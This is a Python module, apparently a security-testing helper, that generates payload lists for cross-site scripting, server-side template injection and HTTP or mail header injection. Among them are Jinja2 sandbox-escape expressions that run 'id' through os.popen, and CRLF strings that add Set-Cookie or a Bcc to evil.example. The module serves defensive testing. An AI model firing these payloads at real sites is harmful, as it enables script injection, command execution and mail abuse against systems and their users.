"""Payloads that would do something if a page, a template engine or a header took them for more than text."""

from __future__ import annotations

import itertools

PRODUCT = 1337 * 7331
"""What an expression of :func:`template` comes to where something evaluates it."""
INJECTED = "x-injected"
"""Name of the header that :func:`header` tries to add."""
COUNT = 200


def markup() -> list[str]:
    """Return 200 pieces of mark-up that would run a script."""
    tags = (
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "iframe src=x",
        "video src=x",
        "marquee",
    )
    events = ("onerror", "onload", "onfocus", "ontoggle", "onstart")
    breaks = ("", '">', "'>", "</textarea>", "</title>")
    built = [f"{out}<{tag} {event}=alert(1)>" for out, tag, event in itertools.product(breaks, tags, events)]
    direct = [
        f"{out}<script>alert(1)</script>" for out in (*breaks, "</script>", "]]>", "-->", "<!--", "</style>")
    ]
    links = [
        f'<a href="{scheme}alert(1)">x</a>'
        for scheme in (
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            " javascript:",
            "data:text/html,",
            "vbscript:",
        )
    ]
    return list(dict.fromkeys([*direct, *links, *built]))[:COUNT]


def template() -> list[str]:
    """Return 200 expressions of template engines, each of which would come to :data:`PRODUCT` or worse."""
    forms = (
        "{{%s}}", "{{ %s }}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% print(%s) %%}", "[[%s]]", "{%s}", "%%(%s)s",
        "{{'%s'|safe}}", "@(%s)", "~{%s}", "*{%s}", "{{=%s}}", "{{{%s}}}", "$((%s))", "`%s`", "<#assign x=%s>${x}",
        "{{%s|e}}", "{!! %s !!}",
    )  # fmt: skip
    expressions = (
        "1337*7331",
        "1337 * 7331",
        "(1337*7331)",
        "7331*1337",
        "'a'.__class__.__mro__[1].__subclasses__()",
        "cycler.__init__.__globals__.os.popen('id').read()",
        "self.__init__.__globals__",
        "request.application.__globals__",
        "config",
        "case.__init__.__globals__[__name__]",
    )
    return [form % expression for form, expression in itertools.product(forms, expressions)][:COUNT]


def header() -> list[str]:
    """Return 200 values that would add a header line, or end the headers."""
    breaks = ("\r\n", "\n", "\r", "\r\n\r\n", "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "%0d%0a")
    lines = (
        f"{INJECTED}: 1",
        f"{INJECTED}:1\r\nSet-Cookie: a=b",
        "Bcc: everybody@evil.example",
        "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
        f"=?utf-8?q?=0D=0A{INJECTED}:_1?=",
    )
    starts = ("a", "Re: your letter", "", "=?utf-8?b?DQo=?=")
    return [start + out + line for start, out, line in itertools.product(starts, breaks, lines)][:COUNT]
